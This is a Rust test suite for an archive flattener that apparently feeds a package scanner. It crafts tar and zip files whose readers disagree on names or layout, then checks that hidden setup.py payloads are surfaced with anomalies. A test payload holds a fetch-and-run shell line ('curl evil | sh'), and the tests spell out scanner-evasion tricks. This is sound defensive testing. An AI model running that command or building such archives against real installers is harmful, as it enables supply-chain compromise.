//! Archives built so that readers disagree on what they hold. Each test
//! states what pip (CPython's `tarfile` and `zipfile`) would install and
//! checks that the flattener returns at least that: the file under the
//! installer's name, other readers' names as aliases, and an anomaly.

use std::io::Write;

use dragonfly_flatten::{AnomalyKind, Error, File, Flattened, Format, LimitKind, Limits, flatten};

// ---------------------------------------------------------------------------
// Tar builders, byte by byte

fn octal(field: &mut [u8], value: u64) {
    let text = format!("{value:0width$o}\0", width = field.len() - 1);
    field.copy_from_slice(text.as_bytes());
}

/// A POSIX ustar header with a valid checksum.
fn header(name: &[u8], type_flag: u8, size: u64, link: &[u8]) -> [u8; 512] {
    let mut block = [0u8; 512];
    block[..name.len()].copy_from_slice(name);
    octal(&mut block[100..108], 0o644);
    octal(&mut block[108..116], 0);
    octal(&mut block[116..124], 0);
    octal(&mut block[124..136], size);
    octal(&mut block[136..148], 0);
    block[156] = type_flag;
    block[157..157 + link.len()].copy_from_slice(link);
    block[257..263].copy_from_slice(b"ustar\0");
    block[263..265].copy_from_slice(b"00");
    block[148..156].fill(b' ');
    let sum: u64 = block.iter().map(|&b| u64::from(b)).sum();
    let text = format!("{sum:06o}\0 ");
    block[148..156].copy_from_slice(text.as_bytes());
    block
}

fn pad(out: &mut Vec<u8>) {
    out.resize(out.len().next_multiple_of(512), 0);
}

fn entry(out: &mut Vec<u8>, name: &[u8], type_flag: u8, data: &[u8], link: &[u8]) {
    out.extend_from_slice(&header(name, type_flag, data.len() as u64, link));
    out.extend_from_slice(data);
    pad(out);
}

fn file(out: &mut Vec<u8>, name: &[u8], data: &[u8]) {
    entry(out, name, b'0', data, b"");
}

/// One PAX record, its length field counting itself.
fn record(key: &str, value: &[u8]) -> Vec<u8> {
    let body = 3 + key.len() + value.len(); // ' ', '=', '\n'
    let mut length = body + 1;
    while length != body + length.to_string().len() {
        length = body + length.to_string().len();
    }
    let mut out = format!("{length} {key}=").into_bytes();
    out.extend_from_slice(value);
    out.push(b'\n');
    out
}

/// A PAX header (`x` local, `g` global) with `records`.
fn pax(out: &mut Vec<u8>, type_flag: u8, records: &[(&str, &[u8])]) {
    let data: Vec<u8> = records.iter().flat_map(|(key, value)| record(key, value)).collect();
    entry(out, b"./PaxHeaders/x", type_flag, &data, b"");
}

/// A GNU long-name header naming the next entry.
fn gnu_long_name(out: &mut Vec<u8>, name: &[u8]) {
    entry(out, b"././@LongLink", b'L', name, b"");
}

fn end(mut out: Vec<u8>) -> Vec<u8> {
    out.extend_from_slice(&[0u8; 1024]);
    out
}

fn gz(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    enc.write_all(data).unwrap();
    enc.finish().unwrap()
}

// ---------------------------------------------------------------------------
// Zip builder: stored entries with chosen raw names and extra fields

struct ZipEntry<'a> {
    name: &'a [u8],
    central_extra: Vec<u8>,
    data: &'a [u8],
    /// Unix mode for the central header's external attributes.
    mode: u32,
}

fn zip_entry<'a>(name: &'a [u8], data: &'a [u8]) -> ZipEntry<'a> {
    ZipEntry { name, central_extra: Vec::new(), data, mode: 0o100644 }
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = flate2::Crc::new();
    crc.update(data);
    crc.sum()
}

/// An Info-ZIP Unicode Path extra field.
fn unicode_path(version: u8, name_crc: u32, name: &[u8]) -> Vec<u8> {
    let mut data = vec![version];
    data.extend_from_slice(&name_crc.to_le_bytes());
    data.extend_from_slice(name);
    let mut out = 0x7075u16.to_le_bytes().to_vec();
    out.extend_from_slice(&(data.len() as u16).to_le_bytes());
    out.extend_from_slice(&data);
    out
}

/// A zip of stored entries; `base` is added to every offset it records
/// (for an archive placed after `base` bytes whose offsets count them).
fn raw_zip(entries: &[ZipEntry<'_>], base: u32) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for e in entries {
        let offset = out.len() as u32 + base;
        let crc = crc32(e.data);
        let size = e.data.len() as u32;
        out.extend_from_slice(b"PK\x03\x04");
        out.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        out.extend_from_slice(&crc.to_le_bytes());
        out.extend_from_slice(&size.to_le_bytes());
        out.extend_from_slice(&size.to_le_bytes());
        out.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(e.name);
        out.extend_from_slice(e.data);

        central.extend_from_slice(b"PK\x01\x02");
        central.extend_from_slice(&[20, 3, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        central.extend_from_slice(&crc.to_le_bytes());
        central.extend_from_slice(&size.to_le_bytes());
        central.extend_from_slice(&size.to_le_bytes());
        central.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
        central.extend_from_slice(&(e.central_extra.len() as u16).to_le_bytes());
        central.extend_from_slice(&[0, 0, 0, 0, 0, 0]);
        central.extend_from_slice(&(e.mode << 16).to_le_bytes());
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(e.name);
        central.extend_from_slice(&e.central_extra);
    }
    let directory_offset = out.len() as u32 + base;
    out.extend_from_slice(&central);
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&directory_offset.to_le_bytes());
    out.extend_from_slice(&[0, 0]);
    out
}

// ---------------------------------------------------------------------------
// Checks

fn read(bytes: &[u8]) -> Flattened {
    flatten(bytes, &Limits::default()).unwrap_or_else(|err| panic!("not flattened: {err}"))
}

fn find<'a>(flat: &'a Flattened, path: &str) -> &'a File {
    flat.files.iter().find(|f| f.path == path).unwrap_or_else(|| {
        let names: Vec<_> = flat.files.iter().map(|f| (&f.path, &f.aliases)).collect();
        panic!("no file `{path}` in {names:?}")
    })
}

fn has_anomaly(flat: &Flattened, kind: AnomalyKind) -> bool {
    flat.anomalies.iter().any(|a| a.kind == kind)
}

const PAYLOAD: &[u8] = b"import os; os.system('curl evil | sh')\n";

// ---------------------------------------------------------------------------
// Tar names

#[test]
fn gnu_long_name_with_a_nul_is_cut_there() {
    let mut tar = Vec::new();
    gnu_long_name(&mut tar, b"pkg-1.0/setup.py\0.txt");
    file(&mut tar, b"pkg-1.0/placeholder", PAYLOAD);
    let flat = read(&gz(&end(tar)));
    assert_eq!(find(&flat, "pkg-1.0/setup.py").data, PAYLOAD);
    assert!(has_anomaly(&flat, AnomalyKind::NameWithNul));
}

#[test]
fn pax_header_with_two_paths_takes_the_last_and_keeps_the_first() {
    let mut tar = Vec::new();
    pax(&mut tar, b'x', &[("path", b"pkg-1.0/docs/notes.txt"), ("path", b"pkg-1.0/setup.py")]);
    file(&mut tar, b"pkg-1.0/x", PAYLOAD);
    let flat = read(&end(tar));
    let setup = find(&flat, "pkg-1.0/setup.py");
    assert!(setup.aliases.contains(&"pkg-1.0/docs/notes.txt".to_owned()), "{:?}", setup.aliases);
    assert!(has_anomaly(&flat, AnomalyKind::ConflictingNames));
}

#[test]
fn pax_path_before_a_gnu_long_name_wins_as_in_cpython() {
    let mut tar = Vec::new();
    pax(&mut tar, b'x', &[("path", b"pkg-1.0/setup.py")]);
    gnu_long_name(&mut tar, b"pkg-1.0/docs/notes.txt");
    file(&mut tar, b"pkg-1.0/x", PAYLOAD);
    let flat = read(&end(tar));
    let setup = find(&flat, "pkg-1.0/setup.py");
    assert!(setup.aliases.contains(&"pkg-1.0/docs/notes.txt".to_owned()));

    // The other order: the long name is applied last.
    let mut tar = Vec::new();
    gnu_long_name(&mut tar, b"pkg-1.0/setup.py");
    pax(&mut tar, b'x', &[("path", b"pkg-1.0/docs/notes.txt")]);
    file(&mut tar, b"pkg-1.0/x", PAYLOAD);
    let flat = read(&end(tar));
    assert!(find(&flat, "pkg-1.0/setup.py").aliases.contains(&"pkg-1.0/docs/notes.txt".to_owned()));
}

#[test]
fn pax_gnu_sparse_name_names_the_file() {
    let mut tar = Vec::new();
    pax(&mut tar, b'x', &[("GNU.sparse.name", b"pkg-1.0/setup.py")]);
    file(&mut tar, b"pkg-1.0/GNUSparseFile.0/notes.txt", PAYLOAD);
    let flat = read(&end(tar));
    let setup = find(&flat, "pkg-1.0/setup.py");
    assert_eq!(setup.aliases, ["pkg-1.0/GNUSparseFile.0/notes.txt"]);
}

#[test]
fn global_pax_path_names_every_following_file() {
    let mut tar = Vec::new();
    pax(&mut tar, b'g', &[("path", b"pkg-1.0/setup.py")]);
    file(&mut tar, b"pkg-1.0/docs/notes.txt", PAYLOAD);
    file(&mut tar, b"pkg-1.0/README", b"readme");
    let flat = read(&end(tar));
    assert_eq!(flat.files.len(), 2);
    assert!(flat.files.iter().all(|f| f.path == "pkg-1.0/setup.py"));
    assert_eq!(flat.files[0].aliases, ["pkg-1.0/docs/notes.txt"]);
    assert_eq!(flat.files[0].data, PAYLOAD);
    assert!(has_anomaly(&flat, AnomalyKind::GlobalHeader));
}

#[test]
fn invalid_pax_size_reads_on_as_cpython_and_as_gnu_tar() {
    // CPython reads size `abc` as 0, so the data of docs/notes.txt is the
    // next header to it: setup.py. GNU tar keeps the header's size.
    for size in [&b"abc"[..], b"0_0"] {
        let mut hidden = Vec::new();
        file(&mut hidden, b"pkg-1.0/setup.py", PAYLOAD);
        let mut tar = Vec::new();
        pax(&mut tar, b'x', &[("size", size)]);
        entry(&mut tar, b"pkg-1.0/docs/notes.txt", b'0', &hidden, b"");
        file(&mut tar, b"pkg-1.0/README", b"after");
        let flat = read(&gz(&end(tar)));
        assert_eq!(find(&flat, "pkg-1.0/setup.py").data, PAYLOAD, "size {size:?}");
        assert_eq!(find(&flat, "pkg-1.0/README").data, b"after");
        // The GNU reading's file, with the hidden header as its content.
        assert!(flat.files.iter().any(|f| f.path == "pkg-1.0/docs/notes.txt" && f.data == hidden));
        assert!(has_anomaly(&flat, AnomalyKind::InvalidNumber));
        assert!(has_anomaly(&flat, AnomalyKind::DivergentLayout));
    }
}

#[test]
fn data_after_a_directory_header_is_read_as_headers_too() {
    // CPython reads no data after a directory header: what follows is the
    // next header. GNU tar skips the declared size.
    let mut hidden = Vec::new();
    file(&mut hidden, b"pkg-1.0/setup.py", PAYLOAD);
    let mut tar = Vec::new();
    entry(&mut tar, b"pkg-1.0/docs/", b'5', &hidden, b"");
    file(&mut tar, b"pkg-1.0/README", b"after");
    let flat = read(&end(tar));
    assert_eq!(find(&flat, "pkg-1.0/setup.py").data, PAYLOAD);
    assert_eq!(find(&flat, "pkg-1.0/README").data, b"after");
    assert!(has_anomaly(&flat, AnomalyKind::DivergentLayout));
}

#[test]
fn symlinks_and_hardlinks_are_scanned_under_the_link_name() {
    for (type_flag, target) in [(b'2', &b"docs/notes.txt"[..]), (b'1', b"pkg-1.0/docs/notes.txt")] {
        let mut tar = Vec::new();
        file(&mut tar, b"pkg-1.0/docs/notes.txt", PAYLOAD);
        entry(&mut tar, b"pkg-1.0/setup.py", type_flag, b"", target);
        let bytes = gz(&end(tar));
        let flat = read(&bytes);
        assert_eq!(find(&flat, "pkg-1.0/setup.py").data, PAYLOAD, "type {}", type_flag as char);
        assert!(has_anomaly(&flat, AnomalyKind::Link));
        // Filtering by name looks at the link's name, not the target's.
        let setup_only = |path: &str| path.ends_with("setup.py");
        let only_setup =
            dragonfly_flatten::flatten_filtered(&bytes, &Limits::default(), &setup_only).unwrap();
        assert_eq!(only_setup.files.len(), 1);
        assert_eq!(only_setup.files[0].path, "pkg-1.0/setup.py");
    }
}

#[test]
fn a_link_chain_resolves_and_a_link_bomb_counts_toward_the_limits() {
    let mut tar = Vec::new();
    file(&mut tar, b"p/real.txt", PAYLOAD);
    entry(&mut tar, b"p/one", b'2', b"", b"real.txt");
    entry(&mut tar, b"p/setup.py", b'2', b"", b"one");
    let flat = read(&end(tar));
    assert_eq!(find(&flat, "p/setup.py").data, PAYLOAD);

    // A thousand links to one 100 KiB file are 100 MB of files.
    let mut tar = Vec::new();
    file(&mut tar, b"p/big.txt", &vec![b'x'; 100 << 10]);
    for i in 0..1000 {
        entry(&mut tar, format!("p/l{i}.py").as_bytes(), b'1', b"", b"p/big.txt");
    }
    let limits = Limits { max_total_bytes: 10 << 20, max_ratio: u64::MAX, ..Limits::default() };
    let err = flatten(&end(tar), &limits).unwrap_err();
    assert!(matches!(err, Error::LimitExceeded { kind: LimitKind::TotalBytes, .. }), "{err}");
}

#[test]
fn huge_extension_headers_are_refused_before_they_are_read() {
    // A long-name header declaring 400 MiB, of which only a block exists.
    let mut tar = Vec::new();
    tar.extend_from_slice(&header(b"././@LongLink", b'L', 400 << 20, b""));
    tar.extend_from_slice(&[b'a'; 512]);
    let err = flatten(&gz(&tar), &Limits::default()).unwrap_err();
    assert!(matches!(err, Error::LimitExceeded { kind: LimitKind::HeaderBytes, limit: 65536, .. }), "{err}");
    let mut tar = Vec::new();
    pax(&mut tar, b'x', &[("path", &vec![b'a'; 70_000])]);
    file(&mut tar, b"x.py", b"");
    let err = flatten(&end(tar), &Limits::default()).unwrap_err();
    assert!(matches!(err, Error::LimitExceeded { kind: LimitKind::HeaderBytes, .. }), "{err}");
}

// ---------------------------------------------------------------------------
// Zip names and modes

#[test]
fn zip_name_with_a_nul_is_cut_there() {
    let zip = raw_zip(&[zip_entry(b"pkg/evil.py\0.txt", PAYLOAD)], 0);
    let flat = read(&zip);
    assert_eq!(find(&flat, "pkg/evil.py").data, PAYLOAD);
    assert!(has_anomaly(&flat, AnomalyKind::NameWithNul));
}

#[test]
fn zip_unicode_path_fields_give_every_reader_its_name() {
    // Version 2: CPython ignores the field, other readers may apply it.
    let mut ignored = zip_entry(b"pkg/evil.py", PAYLOAD);
    ignored.central_extra = unicode_path(2, crc32(b"pkg/evil.py"), b"pkg/readme.txt");
    let flat = read(&raw_zip(&[ignored], 0));
    assert_eq!(find(&flat, "pkg/evil.py").aliases, ["pkg/readme.txt"]);
    assert!(has_anomaly(&flat, AnomalyKind::ConflictingNames));

    // Version 1 with a matching CRC: Python 3.12 takes it, 3.11 does not.
    let mut applied = zip_entry(b"pkg/readme.txt", PAYLOAD);
    applied.central_extra = unicode_path(1, crc32(b"pkg/readme.txt"), b"pkg/evil.py");
    let flat = read(&raw_zip(&[applied], 0));
    assert_eq!(find(&flat, "pkg/evil.py").aliases, ["pkg/readme.txt"]);
}

#[test]
fn zip_entries_with_special_modes_are_files() {
    let mut link = zip_entry(b"pkg/setup.py", PAYLOAD);
    link.mode = 0o120777;
    let mut fifo = zip_entry(b"pkg/run.py", PAYLOAD);
    fifo.mode = 0o010644;
    let flat = read(&raw_zip(&[link, fifo], 0));
    assert_eq!(find(&flat, "pkg/setup.py").data, PAYLOAD);
    assert_eq!(find(&flat, "pkg/run.py").data, PAYLOAD);
    assert_eq!(flat.anomalies.iter().filter(|a| a.kind == AnomalyKind::SpecialMode).count(), 2);
}

#[test]
fn wheels_after_a_self_extractor_stub_are_read() {
    let stub = b"MZ\x90\0this program cannot be run in DOS mode\0\0\0\0".repeat(8);
    let entries = || [zip_entry(b"pkg/__init__.py", PAYLOAD), zip_entry(b"pkg/data.txt", b"data")];
    // Offsets relative to the zip (a stub simply prepended), and absolute
    // (offsets that count the stub): CPython reads both.
    for base in [0, stub.len() as u32] {
        let mut wheel = stub.clone();
        wheel.extend_from_slice(&raw_zip(&entries(), base));
        let flat = read(&wheel);
        assert_eq!(flat.format, Format::Zip);
        assert_eq!(find(&flat, "pkg/__init__.py").data, PAYLOAD, "base {base}");
        assert_eq!(find(&flat, "pkg/data.txt").data, b"data");
        assert!(has_anomaly(&flat, AnomalyKind::PrefixedArchive));
        // The parallel path reads them too.
        let zip = dragonfly_flatten::zip_files(&wheel, &Limits::default(), &|_| true).unwrap();
        assert_eq!(zip.extract(0).unwrap().data, PAYLOAD);
    }
}

// ---------------------------------------------------------------------------
// Compressed streams

#[test]
fn gzip_with_trailing_nul_padding_is_read() {
    let mut tar = Vec::new();
    file(&mut tar, b"pkg-1.0/setup.py", PAYLOAD);
    let mut bytes = gz(&end(tar));
    bytes.extend_from_slice(&[0u8; 4096]);
    let flat = read(&bytes);
    assert_eq!(find(&flat, "pkg-1.0/setup.py").data, PAYLOAD);
    assert!(has_anomaly(&flat, AnomalyKind::TrailingData));
}

#[test]
fn extension_data_runs_on_into_its_padding_as_cpython_reads_it() {
    // Size 15 covers `pkg-1.0/setup.p`; CPython reads the padded block,
    // whose next bytes finish the name.
    let mut tar = Vec::new();
    tar.extend_from_slice(&header(b"././@LongLink", b'L', 15, b""));
    let mut block = b"pkg-1.0/setup.py".to_vec();
    block.resize(512, 0);
    tar.extend_from_slice(&block);
    file(&mut tar, b"pkg-1.0/x", PAYLOAD);
    let flat = read(&end(tar));
    let setup = find(&flat, "pkg-1.0/setup.py");
    assert!(setup.aliases.contains(&"pkg-1.0/setup.p".to_owned()), "{:?}", setup.aliases);
}

#[test]
fn sparse_size_records_set_the_content_not_the_next_header() {
    // A real size on `GNU.sparse.realsize` must not make the reader skip
    // the members that follow.
    let mut tar = Vec::new();
    pax(&mut tar, b'x', &[("GNU.sparse.realsize", b"100000")]);
    file(&mut tar, b"pkg-1.0/sparse.bin", b"stored");
    file(&mut tar, b"pkg-1.0/setup.py", PAYLOAD);
    for _ in 0..200 {
        file(&mut tar, b"pkg-1.0/filler.txt", &[b'f'; 500]);
    }
    let flat = read(&end(tar));
    assert_eq!(find(&flat, "pkg-1.0/setup.py").data, PAYLOAD);
}

#[test]
fn a_global_size_makes_the_extracted_file_run_past_the_next_header() {
    // pip writes 1024 bytes of stream into setup.py, whose header says 0;
    // CPython then stops at the invalid block after it.
    let mut tar = Vec::new();
    pax(&mut tar, b'g', &[("size", b"1024")]);
    entry(&mut tar, b"pkg-1.0/setup.py", b'0', b"", b"");
    let mut hidden = PAYLOAD.to_vec();
    hidden.resize(1024, b' ');
    tar.extend_from_slice(&hidden);
    let flat = read(&end(tar));
    assert_eq!(find(&flat, "pkg-1.0/setup.py").data, hidden);
    assert!(has_anomaly(&flat, AnomalyKind::GlobalHeader));
}

#[test]
fn an_old_style_directory_after_an_extension_header_is_also_a_file() {
    // Newer CPython keeps a `\0`-type member after a PAX header a file, and
    // extracts its data; older versions make it a directory.
    let mut tar = Vec::new();
    pax(&mut tar, b'x', &[("path", b"pkg-1.0/setup.py")]);
    entry(&mut tar, b"pkg-1.0/x/", b'\0', PAYLOAD, b"");
    let flat = read(&end(tar));
    assert!(flat.files.iter().any(|f| f.data == PAYLOAD), "{:?}", flat.files);
    assert!(has_anomaly(&flat, AnomalyKind::DivergentLayout));
}

#[test]
fn non_ascii_pax_sizes_are_refused() {
    let mut tar = Vec::new();
    pax(&mut tar, b'x', &[("size", "５１２".as_bytes())]);
    file(&mut tar, b"pkg-1.0/x.py", PAYLOAD);
    let err = flatten(&end(tar), &Limits::default()).unwrap_err();
    assert!(matches!(err, Error::UnsupportedFeature { .. }), "{err}");
}

#[test]
fn a_tar_with_a_zip_after_it_is_scanned_as_both() {
    let mut tar = Vec::new();
    file(&mut tar, b"pkg-1.0/README", b"harmless");
    let mut bytes = gz(&end(tar));
    let start = bytes.len() as u32;
    // Offsets counting the gzip stream before the zip, as a zip tool
    // appending to the file writes them.
    bytes.extend_from_slice(&raw_zip(&[zip_entry(b"pkg-1.0/setup.py", PAYLOAD)], start));
    let flat = read(&bytes);
    assert_eq!(flat.format, Format::TarGz);
    assert_eq!(find(&flat, "pkg-1.0/README").data, b"harmless");
    assert_eq!(find(&flat, "pkg-1.0/setup.py").data, PAYLOAD);
    assert!(has_anomaly(&flat, AnomalyKind::Polyglot));
}

#[test]
fn a_zip_whose_readers_would_list_different_directories_is_refused() {
    // Benign entries and their directory, then a second directory the
    // first end record does not describe but the last one does, with an
    // entry count (1) smaller than its entries (2).
    let benign = raw_zip(&[zip_entry(b"pkg/ok.py", b"ok")], 0);
    let mut zip = benign.clone();
    let evil = raw_zip(&[zip_entry(b"pkg/a.py", b"a"), zip_entry(b"pkg/evil.py", PAYLOAD)], zip.len() as u32);
    zip.extend_from_slice(&evil);
    let end = zip.len() - 22;
    zip[end + 8..end + 10].copy_from_slice(&1u16.to_le_bytes());
    zip[end + 10..end + 12].copy_from_slice(&1u16.to_le_bytes());
    match flatten(&zip, &Limits::default()) {
        Err(Error::Corrupt { .. }) => {}
        Ok(flat) => assert!(flat.files.iter().any(|f| f.data == PAYLOAD), "evil.py hidden: {:?}", flat.files),
        Err(other) => panic!("{other}"),
    }
}

#[test]
fn the_last_valid_unicode_path_field_names_the_entry() {
    let mut entry = zip_entry(b"pkg/readme.txt", PAYLOAD);
    entry.central_extra = unicode_path(2, 0, b"pkg/decoy.txt");
    entry.central_extra.extend(unicode_path(1, crc32(b"pkg/readme.txt"), b"pkg/a.txt"));
    entry.central_extra.extend(unicode_path(1, crc32(b"pkg/readme.txt"), b"pkg/evil.py"));
    let flat = read(&raw_zip(&[entry], 0));
    let evil = find(&flat, "pkg/evil.py");
    for alias in ["pkg/readme.txt", "pkg/decoy.txt", "pkg/a.txt"] {
        assert!(evil.aliases.contains(&alias.to_owned()), "{:?}", evil.aliases);
    }
}

// ---------------------------------------------------------------------------
// Nested archives

#[test]
fn archives_inside_archives_are_opened_to_depth_two() {
    let innermost = raw_zip(&[zip_entry(b"deep.py", PAYLOAD)], 0);
    let inner = raw_zip(&[zip_entry(b"pkg/setup.py", PAYLOAD), zip_entry(b"pkg/third.zip", &innermost)], 0);
    let mut tar = Vec::new();
    file(&mut tar, b"pkg-1.0/vendor/bundle.whl", &inner);
    file(&mut tar, b"pkg-1.0/fake.zip", b"not a zip at all");
    let flat = read(&gz(&end(tar)));
    assert_eq!(find(&flat, "pkg-1.0/vendor/bundle.whl!/pkg/setup.py").data, PAYLOAD);
    // The third level is a file, not opened.
    assert_eq!(find(&flat, "pkg-1.0/vendor/bundle.whl!/pkg/third.zip").data, innermost);
    assert!(!flat.files.iter().any(|f| f.path.ends_with("deep.py")));
    // The archive itself is scanned as a file too.
    assert_eq!(find(&flat, "pkg-1.0/vendor/bundle.whl").data, inner);
    assert!(has_anomaly(&flat, AnomalyKind::NestedArchive));
    assert!(
        flat.anomalies.iter().any(|a| a.kind == AnomalyKind::UnreadableNestedArchive
            && a.path.as_deref() == Some("pkg-1.0/fake.zip"))
    );

    // Only what `keep` wants comes out, judged on the full path; the
    // archive is opened even when no rule wants the archive itself.
    let py_only = |path: &str| path.ends_with(".py");
    let flat = dragonfly_flatten::flatten_filtered(
        &gz(&end({
            let mut tar = Vec::new();
            file(&mut tar, b"pkg-1.0/vendor/bundle.whl", &inner);
            tar
        })),
        &Limits::default(),
        &py_only,
    )
    .unwrap();
    let paths: Vec<&str> = flat.files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(paths, ["pkg-1.0/vendor/bundle.whl!/pkg/setup.py"]);
}

#[test]
fn a_bomb_inside_a_nested_archive_counts_toward_the_outer_limits() {
    let mut inner = Vec::new();
    file(&mut inner, b"zeros.bin", &vec![0u8; 8 << 20]);
    let inner = gz(&end(inner));
    let mut tar = Vec::new();
    file(&mut tar, b"pkg-1.0/data.tar.gz", &inner);
    let limits = Limits { max_total_bytes: 4 << 20, max_ratio: u64::MAX, ..Limits::default() };
    let err = flatten(&gz(&end(tar)), &limits).unwrap_err();
    assert!(matches!(err, Error::LimitExceeded { kind: LimitKind::TotalBytes, .. }), "{err}");
}
